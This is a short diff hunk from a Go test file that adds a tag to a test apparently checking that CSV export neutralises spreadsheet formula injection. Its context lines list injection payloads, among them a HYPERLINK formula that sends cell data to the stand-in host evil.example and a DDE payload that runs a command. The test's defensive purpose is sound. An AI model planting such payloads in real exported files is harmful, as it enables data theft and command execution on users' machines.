@@ -62,6 +62,7 @@ var formulas = []string{
 	"=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0",
 }
 
+//guarantee:export-hostile
 func TestTable_CSVIsNoFormula(t *testing.T) {
 	f := newFeed()
 	for i, text := range formulas {
